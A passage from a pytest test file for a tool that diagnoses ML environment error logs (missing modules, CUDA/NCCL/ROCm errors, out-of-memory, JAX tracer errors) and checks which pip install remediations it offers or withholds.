        ("yaml", "pip install pyyaml"),
        ("fla", "pip install fla-core"),  # the table: flash-linear-attention's import is shipped by fla-core
        ("orbax", "pip install orbax-checkpoint"),  # a top package without __init__.py: its subpackages' distribution
        ("mamba_ssm", "pip install mamba-ssm"),  # source archives only: the hand-kept list
        ("tensorflow", "pip install tensorflow"),  # a framework by its own name, never the one build the table read
        ("av", "pip install av"),  # a two-letter import named exactly like its distribution
        ("optimum", "pip install optimum"),  # a namespace-like top: the distribution named exactly like it
        ("pynvml", "pip install nvidia-ml-py"),
    ],
)
def test_a_missing_module_some_distribution_ships_gets_that_distribution_s_install(module: str, command: str) -> None:
    diagnosis = _diagnose(tb(f"ModuleNotFoundError: No module named '{module}'"))
    assert diagnosis is not None and diagnosis.family == "module-not-found", diagnosis
    assert any(command in line for line in diagnosis.remediation), diagnosis.remediation


@pytest.mark.parametrize(
    ("module", "said"),
    [
        # a folder of the project: PyPI's `utils` and `models` are other projects
        ("utils", "folder of the project"),
        ("models.common", "folder of the project"),
        ("src", "folder of the project"),
        # no wheel read ships `ldm` (stable-diffusion's own folder) or `diff_gaussian_rasterization` (built from a
        # repository's submodule): a guessed `pip install` could fetch somebody else's project
        ("ldm", "knows no distribution"),
        ("diff_gaussian_rasterization", "knows no distribution"),
        # the NVIDIA wheels come once per CUDA major: the framework's CUDA decides which
        ("nvidia.cudnn", "nvidia-cudnn-cu12 for a framework built for CUDA 12"),
        # another project under the nvidia namespace, and one with PyPI's namesake (PyPI's apex is not NVIDIA's)
        ("nvidia.dali", "knows no distribution"),
        ("apex", "knows no distribution"),
        # a wheel that ships a top-level name unlike its own (colossalai's `extensions`) is not the one meant
        ("extensions", "knows no distribution"),
        # a namespace's other distributions do not stand for one they do not ship (basemap is not matplotlib's)
        ("mpl_toolkits.basemap", "knows no distribution"),
        ("google.cloud.storage", "ships a module named google.cloud.storage"),
        # a build of another project's is never offered for it (faiss-cpu, the only faiss wheel read)
        ("faiss", "knows no distribution"),
        # every part before the one Python names was imported: its distribution is installed already
        ("backports.zoneinfo", "knows no distribution"),
        ("backports", "knows no distribution"),  # a namespace alone: no one distribution is it
    ],
)
def test_a_missing_module_no_known_distribution_ships_gets_no_guessed_install(module: str, said: str) -> None:
    diagnosis = _diagnose(tb(f"ModuleNotFoundError: No module named '{module}'"))
    assert diagnosis is not None and diagnosis.family == "module-not-found", diagnosis
    assert said in diagnosis.cause, diagnosis.cause
    assert not any("pip install" in line for line in (*diagnosis.remediation, *diagnosis.next)), diagnosis
    assert diagnosis.next, "says what to check instead"


@pytest.mark.parametrize(
    ("library", "package", "command"),
    [
        (
            "onnx/onnx_cpp2py_export.cpython-310-x86_64-linux-gnu.so",
            "onnx",
            "pip install --force-reinstall --no-deps onnx",
        ),
        # a compiled module at site-packages' top is its distribution's, named by the module, never by the file
        ("selective_scan_cuda.cpython-310-x86_64-linux-gnu.so", "mamba-ssm", "--no-deps mamba-ssm"),
        # no distribution is known to ship pointops_cuda: a file name is not a package to hand to pip
        ("pointops_cuda.cpython-310-x86_64-linux-gnu.so", "pointops_cuda", ""),
        # NVIDIA's apex, built from its repository: PyPI's apex is another project
        ("amp_C.cpython-310-x86_64-linux-gnu.so", "apex", ""),
    ],
)
def test_an_undefined_symbol_s_reinstall_names_a_distribution_known_to_ship_the_extension(
    library: str, package: str, command: str
) -> None:
    symbol = "_ZN6google8protobuf8internal9ArenaImpl10AddCleanupEPvPFvS3_E"
    diagnosis = _diagnose(f"ImportError: /env/lib/python3.10/site-packages/{library}: undefined symbol: {symbol}\n")
    assert diagnosis is not None and diagnosis.family == "undefined-symbol", diagnosis
    assert diagnosis.params["package"] == package
    if command:
        assert command in diagnosis.remediation[0], diagnosis.remediation
    else:
        assert not diagnosis.remediation, diagnosis.remediation


def test_a_build_traceback_cut_at_flash_attn_s_cuda_home_check_is_read_as_that_check() -> None:
    log = (
        "  error: subprocess-exited-with-error\n      Traceback (most recent call last):\n"
        '        File "/tmp/pip-install-x/flash-attn_1/setup.py", line 249, in run\n'
        '          raise_if_cuda_home_none("flash_attn")\n'
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "build-failure" and "CUDA_HOME" in diagnosis.cause, diagnosis


def test_datasets_question_about_custom_code_is_not_the_failure_that_follows_it() -> None:
    # datasets asks "... contains custom code which must be executed ... Do you wish to run the custom code? [y/N]"
    # at a terminal; answered yes, the run goes on, and what fails later is the failure
    log = (
        "The repository for hellaswag contains custom code which must be executed to correctly load the dataset. "
        "You can inspect the repository content at https://hf.co/datasets/hellaswag.\n"
        "Do you wish to run the custom code? [y/N] y\n" + tb("KeyError: 'text'")
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.decided_by != "bad-configuration:dataset_script_not_trusted"
    refused = _diagnose(
        "ValueError: The repository for hellaswag contains custom code which must be executed to correctly load the "
        "dataset. Please pass the argument `trust_remote_code=True` to allow custom code to be run.\n"
    )
    assert refused is not None and refused.decided_by == "bad-configuration:dataset_script_not_trusted"
    logged = _diagnose(
        "ERROR [evaluator.py:200] Task hellaswag failed: Loading hellaswag requires you to execute the dataset script "
        "in that repo on your local machine. Make sure you have read the code there to avoid malicious use, then set "
        "the option `trust_remote_code=True` to remove this error.\n"
    )
    assert logged is not None and logged.decided_by == "bad-configuration:dataset_script_not_trusted"


def test_a_submodule_of_a_namespace_distribution_is_that_distribution_s_release() -> None:
    # google.protobuf was imported: protobuf is installed, and lacks internal.builder (added in protobuf 3.20)
    diagnosis = _diagnose(tb("ModuleNotFoundError: No module named 'google.protobuf.internal.builder'"))
    assert diagnosis is not None and diagnosis.family == "api-version-skew" and "protobuf" in diagnosis.cause


def test_an_mps_op_named_in_a_repr_s_escaped_quotes_is_still_read() -> None:
    log = "NotImplementedError: The operator \\'aten::roll\\' is not currently implemented for the MPS device.\n"
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "unsupported-op" and "aten::roll" in diagnosis.cause


def test_a_dataloader_worker_killed_is_the_host_s_memory() -> None:
    diagnosis = _diagnose(tb("RuntimeError: DataLoader worker (pid 22358) is killed by signal: Killed. ", "torch"))
    assert diagnosis is not None and (diagnosis.family, diagnosis.verdict) == ("out-of-memory", "not-environment")


@pytest.mark.parametrize(
    ("log", "family", "word"),
    [
        ("bash: line 1: torchrun: command not found\n", "bad-configuration", "torchrun"),
        ("zsh: command not found: accelerate\n", "bad-configuration", "accelerate"),
        ("/bin/sh: 1: nvcc: not found\n", "build-failure", "CUDA_HOME"),
        (
            "nvidia-smi : The term 'nvidia-smi' is not recognized as the name of a cmdlet, function, script file, or "
            "operable program.\n",
            "accelerator-unavailable",
            "--gpus all",
        ),
        ("/usr/bin/env: 'python': No such file or directory\n", "bad-configuration", "python3"),
        (tb("FileNotFoundError: [Errno 2] No such file or directory: 'ninja'", "torch"), "build-failure", "ninja"),
    ],
    ids=["bash", "zsh", "dash-nvcc", "powershell-driver", "env-shebang", "subprocess-compiler"],
)
def test_a_program_the_shell_cannot_find_is_named_with_what_brings_it(log: str, family: str, word: str) -> None:
    diagnosis = _diagnose(log)
    assert diagnosis is not None
    assert (diagnosis.family, diagnosis.verdict) == (family, "environment"), diagnosis.cause
    assert word in " ".join([diagnosis.cause, *map(str, diagnosis.params.values()), *diagnosis.next])


def test_a_file_the_user_s_code_cannot_open_is_not_a_missing_program() -> None:
    diagnosis = _diagnose(tb("FileNotFoundError: [Errno 2] No such file or directory: 'data'"))
    assert diagnosis is not None
    assert diagnosis.verdict == "not-environment", diagnosis.cause


@pytest.mark.parametrize(
    ("log", "family", "word"),
    [
        (
            "python: /src/lib/Dialect/TritonGPU/Transforms/AccelerateMatmul.cpp:36: int getMMAVersionSafe(int, DotOp): "
            'Assertion `false && "computeCapability not supported"\' failed.\n',
            "gpu-arch-unsupported",
            "triton",
        ),
        (
            tb("subprocess.CalledProcessError: Command '['where', 'cl']' returned non-zero exit status 1.", "torch"),
            "build-failure",
            "cl.exe",
        ),
        ("zsh: illegal hardware instruction  python train.py\n", "gpu-arch-unsupported", "arm64"),
        (tb("RuntimeError: cuDNN error: CUDNN_STATUS_NOT_INITIALIZED", "torch"), "cuda-library-mismatch", "cuDNN"),
        (
            "Failed: Cuda error /work/vllm/csrc/custom_all_reduce.cuh:307 'peer access is not supported between these "
            "two devices'\n",
            "bad-configuration",
            "disable_custom_all_reduce",
        ),
        (
            "nvcc fatal   : Unsupported gpu architecture 'compute_120'\nninja: build stopped: subcommand failed.\n",
            "build-failure",
            "CUDA_HOME",
        ),
        (
            "PackagesNotFoundError: The following packages are not available from current channels:\n\n  - "
            "pytorch-cuda=12.4*\n\nCurrent channels:\n",
            "resolver-conflict",
            "pytorch-cuda=12.4*",
        ),
        (
            "RuntimeError: Bad StatusOr access: RESOURCE_EXHAUSTED: Error allocating device buffer: Attempting to "
            "allocate 1.00G. That was not possible. There are 512.00M free.; (0x0x0_HBM0)\n",
            "out-of-memory",
            "HBM",
        ),
        (
            "RuntimeError: Attempting to allocate 4.00G. That was not possible. There are 2.50G free. Program hbm "
            "requires 8.00G out of 16.00G HBM\n",
            "out-of-memory",
            "HBM",
        ),
        ("zsh: segmentation fault  python train.py\n", "framework-internal-error", "SIGSEGV"),
        ("Windows fatal exception: access violation\n", "framework-internal-error", "EXCEPTION_ACCESS_VIOLATION"),
        (
            'Traceback (most recent call last):\n  File "/home/me/train.py", line 9, in <module>\n'
            '    np.save("key.npy", key)\n'
            '  File "/opt/venv/lib/python3.11/site-packages/numpy/lib/npyio.py", line 545, in save\n'
            "    arr = np.asanyarray(arr)\n"
            "TypeError: JAX array with PRNGKey dtype cannot be converted to a NumPy array. Use jax.random.key_data(arr) if "
            "you wish to extract the underlying integer array.\n",
            "user-code-error",
            "jax.random.key_data",
        ),
        (
            '"" the procedure entry point\nelement size@tensoriteratorbase@at@QEBA_JH@Z\ncould not be locate in the '
            'dynamic link library\nk:\\ComfyUI\\lib\\site-packages\\xformers\\_C.pyd. ""\n',
            "undefined-symbol",
            "xformers",
        ),
        (tb("RuntimeError: Tensors must be CUDA and dense", "torch"), "user-code-error", "cpu:gloo"),
        (
            tb(
                "RuntimeError: Detected mismatch between collectives on ranks. Rank 0 is running collective: "
                "CollectiveFingerPrint(SequenceNumber=3, OpType=ALLREDUCE), but Rank 1 is running collective: "
                "CollectiveFingerPrint(SequenceNumber=3, OpType=ALLGATHER).",
                "torch",
            ),
            "user-code-error",
            "same order",
        ),
        (tb("ValueError: Shapes (None, 1) and (None, 10) are incompatible", "keras"), "user-code-error", "(None, 10)"),
        (
            "torch._dynamo.exc.TorchRuntimeError: Failed running call_function <built-in function mul>(*(FakeTensor(..., "
            "size=(2, 3)), FakeTensor(..., size=(4,))), **{}):\nAttempting to broadcast a dimension of length 4 at -1! "
            "Mismatching argument at index 1 had torch.Size([4]); but expected shape should be broadcastable to [2, 3]\n",
            "user-code-error",
            "broadcast",
        ),
        (
            tb("TypeError: Argument 'x' of type <class 'str'> is not a valid JAX type", "jax"),
            "user-code-error",
            "not a valid JAX type",
        ),
        (
            # jax/_src/core.py's concrete_aval: a function (a solver's norm) left in the pytree optax was handed
            "TypeError: Value <function rms_norm at 0x7f554c241990> with type <class 'function'> is not a valid JAX "
            "type\n",
            "user-code-error",
            "not a valid JAX type",
        ),
        (
            tb("tensorflow.python.framework.errors_impl.InternalError: Graph execution error:", "keras"),
            "framework-internal-error",
            "INTERNAL",
        ),
        (
            "tensorflow.python.framework.errors_impl.InvalidArgumentError: Cannot assign a device for operation a: "
            "Could not satisfy explicit device specification '/device:GPU:1' because no devices matching that "
            "specification are registered in this process; available devices: /job:localhost/replica:0/task:0/"
            "device:CPU:0\n",
            "accelerator-unavailable",
            "CUDA_VISIBLE_DEVICES",
        ),
        (tb("ValueError: Memory growth cannot differ between GPU devices", "tensorflow"), "user-code-error", "alike"),
        ("rocBLAS error: Could not initialize Tensile host: No devices found\n", "accelerator-unavailable", "render"),
        (tb("RuntimeError: Invalid buffer size: 20.00 GB", "torch"), "out-of-memory", "20.00 GB"),
        (
            "node1:123:456 [0] NCCL WARN NET/Socket : peer 10.0.0.2<51234> message truncated : receiving 1048576 bytes "
            "instead of 65536. If you believe your socket network is in a healthy state, there may be a mismatch in "
            "collective sizes or environment settings (e.g. NCCL_PROTO, NCCL_ALGO) between ranks\n",
            "user-code-error",
            "same shapes",
        ),
        (
            "node1:123:456 [1] NCCL WARN Mismatched NCCL version detected : rank 1 version 22105 rank 0 version 21903\n",
            "version-mismatch",
            "NCCL",
        ),
        (
            "node1:123:456 [0] NCCL WARN NCCL library is too old. This application was compiled with NCCL version "
            "2.28.3, but is running with NCCL library version 2.21.5.\n",
            "cuda-library-mismatch",
            "LD_LIBRARY_PATH",
        ),
        (
            "node1:123:456 [0] NCCL WARN MNNVL (cliqueSize 72) is available but not working on this system. Check the "
            "IMEX channel configuration (/dev/nvidia-caps-imex-channels). Set NCCL_MNNVL_ENABLE=0 to ignore this "
            "issue.\n",
            "bad-configuration",
            "NCCL_MNNVL_ENABLE",
        ),
        (
            "node1:123:456 [0] include/alloc.h:462 NCCL WARN Failed to CUDA malloc 4194304 bytes\n",
            "out-of-memory",
            "NCCL_BUFFSIZE",
        ),
        (
            "node1:123:456 [0] NCCL WARN Multiple Ranks are using the same GPU/Partition. Set "
            "NCCL_MULTI_RANK_GPU_ENABLE=1 to enable this configuration.\n",
            "nccl-duplicate-gpu",
            "set_device",
        ),
        (
            "node1:123:456 [0] init.cc:1339 NCCL WARN Detected mixed local Net device counts across ranks (min 1, max "
            "8). Set NCCL_IGNORE_NET_MISMATCH=1 to continue.\n",
            "bad-configuration",
            "same NICs",
        ),
        (
            "node1:123:456 [0] plugin/net.cc:349 NCCL WARN Failed to initialize any NET plugin\n",
            "bad-configuration",
            "NCCL_NET",
        ),
    ],
    ids=[
        "triton-arch-assert",
        "windows-where-cl",
        "macos-sigill",
        "cudnn-not-initialized",
        "vllm-custom-all-reduce",
        "nvcc-build",
        "conda-not-found",
        "tpu-device-buffer",
        "tpu-device-buffer-no-status",
        "zsh-segfault",
        "windows-faulthandler",
        "typed-key-saved-by-the-user",
        "entry-point-dialog-broken-over-lines",
        "nccl-cpu-tensors",
        "collectives-mismatch",
        "keras-label-shapes",
        "fake-tensor-broadcast",
        "jax-invalid-type",
        "jax-value-of-no-jax-type",
        "tf-internal-error-class",
        "tf-device-not-in-process",
        "tf-memory-growth-alike",
        "rocblas-no-devices",
        "mps-buffer-too-large",
        "nccl-message-truncated",
        "nccl-versions-across-ranks",
        "nccl-library-too-old",
        "nccl-mnnvl-imex",
        "nccl-cuda-malloc",
        "nccl-multiple-ranks-one-gpu",
        "nccl-mixed-nic-counts",
        "nccl-no-net-plugin",
    ],
)
def test_the_other_wordings_of_a_rule_give_its_family(log: str, family: str, word: str) -> None:
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == family, diagnosis
    assert word in " ".join([diagnosis.cause, *map(str, diagnosis.params.values()), *diagnosis.next])


MODULE_CALL = (
    '  File "/opt/venv/lib/python3.11/site-packages/torch/nn/modules/module.py", line 1736, in _wrapped_call_impl\n'
    "    return self._call_impl(*args, **kwargs)\n"
    '  File "/opt/venv/lib/python3.11/site-packages/torch/nn/modules/module.py", line 1747, in _call_impl\n'
    "    return forward_call(*args, **kwargs)\n"
    "TypeError: forward() got an unexpected keyword argument 'scale'\n"
)


def test_a_wrong_call_is_blamed_on_who_wrote_it_not_on_torch_s_module_dispatch() -> None:
    library = TB + LIB.format(pkg="diffusers") + MODULE_CALL
    diagnosis = _diagnose(library)
    assert diagnosis is not None and diagnosis.family == "api-version-skew", diagnosis
    assert diagnosis.cause.startswith("diffusers calls forward()"), diagnosis.cause
    # the user's own model called with a keyword its forward() lacks: their code, not the environment
    diagnosis = _diagnose(TB + MODULE_CALL)
    assert diagnosis is None or diagnosis.verdict != "environment", diagnosis


def test_the_sigterm_torchrun_sends_after_a_worker_failed_is_not_a_hang_up() -> None:
    log = (
        "W0519 07:08:17.210993 1396 torch/distributed/elastic/multiprocessing/api.py:851] Sending process 5893 "
        "closing signal SIGTERM\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is None or diagnosis.decided_by != "bad-configuration:launcher_hung_up", diagnosis


def test_a_library_deleted_under_a_running_process_names_the_wheel_that_vendored_it() -> None:
    """The kernel marks a mapped file removed since as 'PATH (deleted)' (proc(5)): reinstall, not a missing wheel."""
    diagnosis = _diagnose(
        tb(
            "RuntimeError: /env/lib/python3.11/site-packages/torchvision.libs/libcudart.7ec1eba6.so.12 (deleted): cannot open shared object file: No such file or directory",
            "unsloth",
        )
    )
    assert diagnosis is not None and (diagnosis.family, diagnosis.verdict) == ("missing-library", "environment")
    assert "deleted" in diagnosis.cause and "torchvision" in diagnosis.cause and "--no-deps" in diagnosis.cause
    assert "nvidia-cuda-runtime" not in " ".join(diagnosis.remediation)  # fmt: skip


def test_a_bare_attribute_error_the_library_did_not_read_from_self_is_left_to_other_rules() -> None:
    log = (
        TB
        + '  File "/opt/venv/lib/python3.11/site-packages/somelib/state.py", line 5, in run\n    return plan.steps\nAttributeError: steps\n'
    )
    diagnosis = _diagnose(log)
    assert diagnosis is None or diagnosis.decided_by != "framework-internal-error:own_attribute_missing"


def test_expected_xla_fallbacks_alone_are_no_missing_lowering() -> None:
    diagnosis = _diagnose("Counter: aten::_local_scalar_dense\n  Value: 3\nCounter: aten::nonzero\n  Value: 1\n")
    assert diagnosis is None or diagnosis.decided_by != "unsupported-op:xla_cpu_fallback"


def test_a_jax_tracer_error_names_the_call_and_parameter_the_value_reached() -> None:
    log = tb(
        "jax.errors.ConcretizationTypeError: Abstract tracer value encountered where concrete value is expected: traced array with shape int32[].\nIt arose in the jnp.linspace argument 'num'",
        "jax",
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.verdict == "not-environment"
    assert "call jnp.linspace, parameter num" in diagnosis.cause


def test_a_jax_branch_on_a_traced_value_names_the_statement_and_a_function_cut_after_at() -> None:
    log = (
        "Traceback (most recent call last):\n"
        '  File "/home/me/train.py", line 12, in <module>\n'
        "    step(x, 3)\n"
        '  File "/home/me/train.py", line 7, in step\n'
        "    if max_steps == 1:\n"
        "jax.errors.TracerBoolConversionError: Attempted boolean conversion of traced array with shape bool[].\n"
        "The error occurred while tracing the function step at \n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.verdict == "not-environment"
    assert "function step" in diagnosis.cause
    assert "`if max_steps == 1:` (/home/me/train.py:7)" in diagnosis.cause


def test_a_cpu_only_xformers_is_its_build_not_the_gpu_s_age() -> None:
    # every kernel of an xformers built without CUDA is refused, the capability among the reasons: the build decides
    log = (
        "NotImplementedError: No operator found for `memory_efficient_attention_forward` with inputs:\n"
        "     query       : shape=(1, 2, 1, 40) (torch.float32)\n"
        "`flshattF@0.0.0` is not supported because:\n"
        "    xFormers wasn't build with CUDA support\n"
        "    requires device with capability > (8, 0) but your GPU has capability (7, 5) (too old)\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.decided_by == "version-mismatch:xformers_for_another_torch", diagnosis


_EXPECTTEST_WANTED_BY_TESTS = [
    # another library's test helpers reaching torch.testing._internal, under the user's test suite
    'Traceback (most recent call last):\n  File "/home/me/proj/tests/test_quant.py", line 3, in <module>\n    from torchao.testing.utils import skip_if_no_cuda\n  File "/env/lib/python3.11/site-packages/torchao/testing/utils.py", line 8, in <module>\n    from torch.testing._internal import common_utils\n  File "/env/lib/python3.11/site-packages/torch/testing/_internal/common_utils.py", line 60, in <module>\n    import expecttest\nModuleNotFoundError: No module named \'expecttest\'\n',
    # pytest's own words for a test module it could not import
    "ImportError while importing test module '/home/me/proj/tests/test_ops.py'.\nHint: make sure your test modules/packages have valid Python names.\nTraceback:\ntests/test_ops.py:2: in <module>\n    from torch.testing._internal.common_utils import TestCase\nE   ModuleNotFoundError: No module named 'expecttest'\n",
    # a bare line: nothing says the compiler imported it
    "ModuleNotFoundError: No module named 'expecttest'\n",
]  # fmt: skip


@pytest.mark.parametrize("log", _EXPECTTEST_WANTED_BY_TESTS, ids=["library-helpers", "pytest", "bare"])
def test_expecttest_outside_the_compiler_is_to_install_not_torch_s_regression(log: str) -> None:
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "module-not-found", diagnosis
    assert diagnosis.verdict == "environment" and "regression" not in diagnosis.cause


def test_pytorch_s_own_test_suite_needs_expecttest_installed() -> None:
    # run from PyTorch's test folder, expecttest is a requirement of the run: install it, no regression of torch
    log = (
        "Traceback (most recent call last):\n"
        '  File "/src/pytorch/test/test_nn.py", line 12, in <module>\n'
        "    from torch.testing._internal.common_utils import run_tests\n"
        '  File "/src/pytorch/torch/testing/_internal/common_utils.py", line 60, in <module>\n'
        "    import expecttest\n"
        "ModuleNotFoundError: No module named 'expecttest'\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "module-not-found", diagnosis
    assert diagnosis.verdict == "environment" and "regression" not in diagnosis.cause


@pytest.mark.parametrize(
    "log",
    [
        'Traceback (most recent call last):\n  File "/home/me/train.py", line 9, in <module>\n    y = x.cpu()\nAttributeError: \'numpy.ndarray\' object has no attribute \'cpu\'\n',
        "'models.yolo.Model' object has no attribute 'fuse_layers'\n",
    ],
    ids=["numpy-array-in-user-code", "project-class-line"],
)  # fmt: skip
def test_a_type_named_with_its_module_is_no_release_question_by_itself(log: str) -> None:
    # C types always print with their module ('numpy.ndarray'): the dot says nothing of a release
    diagnosis = _diagnose(log)
    assert diagnosis is None or diagnosis.family != "api-version-skew", diagnosis


def test_a_warning_that_went_on_without_the_gpu_feature_is_not_the_failure() -> None:
    log = (
        "[rank0]: WARNING: fp8 kv cache is only supported on Hopper GPUs and newer; using bf16\n"
        "[rank0]: torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 2.00 GiB. GPU 0 has a total capacity "
        "of 23.65 GiB of which 1.06 GiB is free.\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "out-of-memory", diagnosis


def test_a_removed_submodule_of_cuda_python_is_its_release_not_a_missing_package() -> None:
    log = "Traceback (most recent call last):\n  File \"/app/run.py\", line 1, in <module>\n    import cuda.cudart\nModuleNotFoundError: No module named 'cuda.cudart'\n"
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "api-version-skew", diagnosis


def test_a_tracer_error_from_a_conversion_names_no_branch() -> None:
    log = (
        "Traceback (most recent call last):\n"
        '  File "/home/me/train.py", line 7, in step\n'
        "    if use_cache(x):\n"
        '  File "/home/me/train.py", line 3, in use_cache\n'
        "    return jnp.zeros(int(x))\n"
        "jax.errors.ConcretizationTypeError: Abstract tracer value encountered where concrete value is expected: "
        "traced array with shape int32[]\nThe problem arose with the `int` function.\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and "The branch" not in diagnosis.cause, diagnosis


def test_a_kernel_for_one_generation_alone_is_not_said_to_need_a_newer_gpu() -> None:
    log = "RuntimeError: FP8 block scaling grouped GEMM is only supported on Hopper (SM90), but device compute capability is 12.0\n"
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "gpu-arch-unsupported", diagnosis
    assert "Hopper GPUs only" in diagnosis.cause and "needs a newer GPU" not in diagnosis.cause


def test_a_broken_compiler_invariant_quotes_the_assertion_that_failed() -> None:
    log = (
        TB
        + '  File "/opt/venv/lib/python3.11/site-packages/torch/_inductor/scheduler.py", line 90, in fuse\n    assert node.group == other.group, msg\nAssertionError: groups differ\n'
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "framework-internal-error"
    assert "`assert node.group == other.group, msg`" in diagnosis.cause


def test_a_launcher_stopped_by_a_signal_the_log_does_not_name_points_at_the_terminal() -> None:
    diagnosis = _diagnose(
        '    raise SignalException(f"Process {os.getpid()} got signal: {sigval}", sigval=sigval)\ntorch.distributed.elastic.multiprocessing.api.SignalException\n'
    )
    assert diagnosis is not None and diagnosis.family == "bad-configuration"
    assert "tmux" in diagnosis.cause and diagnosis.verdict == "unknown"  # the log does not say which signal


def test_rocblas_without_tensile_kernels_for_the_gpu_is_its_architecture() -> None:
    log = "rocBLAS error: Cannot read /env/lib/python3.10/site-packages/torch/lib/rocblas/library/TensileLibrary.dat: No such file or directory\n"
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "gpu-arch-unsupported"
    assert "rocBLAS" in diagnosis.cause and "HSA_OVERRIDE_GFX_VERSION" in diagnosis.cause


@pytest.mark.parametrize(
    ("code", "variable", "family"),
    [
        ('local_rank = int(os.environ["LOCAL_RANK"])', "LOCAL_RANK", "bad-configuration"),
        ('token = os.environ["MY_SERVICE_TOKEN"]', "MY_SERVICE_TOKEN", "bad-configuration"),
    ],
    ids=["launcher-variable", "users-own-variable"],
)
def test_an_unset_environment_variable_is_read_for_who_reads_it(code: str, variable: str, family: str) -> None:
    log = TB.replace("    main()\n", f"    {code}\n") + f"KeyError: '{variable}'\n"
    diagnosis = _diagnose(log)
    assert diagnosis is not None and (diagnosis.family, diagnosis.verdict) == (family, "environment")
    assert variable in diagnosis.cause


def test_an_upper_case_key_of_the_programs_own_dictionary_is_no_environment_variable() -> None:
    log = (
        TB
        + '  File "/opt/venv/lib/python3.11/site-packages/somelib/cfg.py", line 5, in get\n    return self.table["MODEL_TYPE"]\nKeyError: \'MODEL_TYPE\'\n'
    )
    diagnosis = _diagnose(log)
    assert diagnosis is None or diagnosis.decided_by != "framework-internal-error:environment_variable_missing"


def test_a_failed_build_names_the_package_whose_sources_it_compiled() -> None:
    log = '/env/lib/python3.10/site-packages/deepspeed/ops/csrc/adam/multi_tensor_adam.cu(12): error: identifier "__hfma2" is undefined\n'

    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "build-failure"
    assert "deepspeed" in diagnosis.cause, diagnosis.cause


def test_a_pallas_lowering_without_the_primitive_is_a_gap_of_that_backend() -> None:
    diagnosis = _diagnose(
        tb(
            "NotImplementedError: Unimplemented primitive in Pallas TPU lowering: erf_inv. Please file an issue on https://github.com/jax-ml/jax/issues.",
            "jax",
        )
    )
    assert diagnosis is not None and (diagnosis.family, diagnosis.verdict) == ("unsupported-op", "framework-bug")
    assert "Pallas TPU" in diagnosis.cause and "erf_inv" in diagnosis.cause


def test_a_recompile_limit_hit_by_the_users_own_function_is_theirs() -> None:
    log = "W1126 torch/_dynamo/convert_frame.py:844] [0/8] torch._dynamo hit config.cache_size_limit (8)\nW1126 torch/_dynamo/convert_frame.py:844] [0/8]    function: 'forward' (/home/me/model.py:40)\n"
    diagnosis = _diagnose(log)
    assert diagnosis is not None and (diagnosis.family, diagnosis.verdict) == ("user-code-error", "not-environment")
    assert "mark_dynamic" in diagnosis.cause and "cache_size_limit" in diagnosis.cause


def test_triton_compilation_error_is_read_to_the_kernel_line_that_failed() -> None:
    """CompilationError quotes the kernel up to the failing line, last: the region keeps the whole quote."""
    body = "".join(f"        x{i} = tl.load(p + {i})\n" for i in range(11))  # Triton quotes 12 lines at most
    log = "triton.compiler.errors.CompilationError: at 40:14:\n" + body + "        qk += tl.dot(q, k, trans_b=True)\n"
    log += "              ^\n"
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "api-version-skew"
    assert "trans_b" in diagnosis.cause


def test_a_quoted_cuda_error_cut_short_is_still_its_code() -> None:
    diagnosis = _diagnose('"CUDA error : no kernel image is available for execution" on line 91 of pipeline.py.\n')
    assert diagnosis is not None and diagnosis.family == "gpu-arch-unsupported"


def test_windows_paging_file_in_any_wording_is_memory() -> None:
    diagnosis = _diagnose(
        "Error while loading: (os error 1455)\nthe paging file is too small for this operation to complete\n"
    )
    assert diagnosis is not None and (diagnosis.family, diagnosis.verdict) == ("out-of-memory", "not-environment")


def test_an_exception_of_the_standard_library_on_windows_is_not_the_users_code() -> None:
    log = "Traceback (most recent call last):\n  File \"d:\\app\\app.py\", line 5, in <module>\n    import whisper\n  File \"D:\\python\\lib\\site-packages\\whisper.py\", line 69, in <module>\n    libc = ctypes.CDLL(libc_name)\n  File \"D:\\python\\lib\\ctypes\\__init__.py\", line 364, in __init__\n    if '/' in name or '\\\\' in name:\nTypeError: argument of type 'NoneType' is not iterable\n"
    diagnosis = _diagnose(log)
    assert diagnosis is None or diagnosis.verdict != "not-environment", diagnosis


def test_a_type_error_over_dynamos_fake_tensors_asks_for_a_run_without_the_compiler() -> None:
    log = (
        TB
        + "  File \"/opt/venv/lib/python3.11/site-packages/torch/_dynamo/utils.py\", line 1196, in run_node\n    return getattr(args[0], node.target)(*args[1:], **kwargs)\nTypeError: reshape(): argument 'shape' (position 1) must be tuple of ints, but found element of type FakeTensor at pos 0\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and (diagnosis.family, diagnosis.verdict) == ("framework-internal-error", "unknown")
    assert "TORCHDYNAMO_DISABLE=1" in diagnosis.cause


def test_nccl_results_in_an_older_releases_words_are_still_their_codes() -> None:
    """NCCL 2.27 appends advice to its strings ('internal error - please report ...'); older releases do not."""
    log = tb(
        "RuntimeError: NCCL error in: ../torch/csrc/distributed/c10d/ProcessGroupNCCL.cpp:1275, internal error, NCCL version 2.14.3\nncclInternalError: Internal check failed.",
        "torch",
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.params.get("name") == "ncclInternalError"


def test_libtpu_failing_to_fetch_the_tpu_vm_metadata_is_no_tpu_vm() -> None:
    log = "".join(
        f"I0000 00:00:1694099702.8 484 common_lib.cc:174] Failed to fetch URL on try {i} out of 6: Failed to fetch URL (http status: 404) No error\n"
        for i in range(1, 7)
    )
    diagnosis = _diagnose(log)
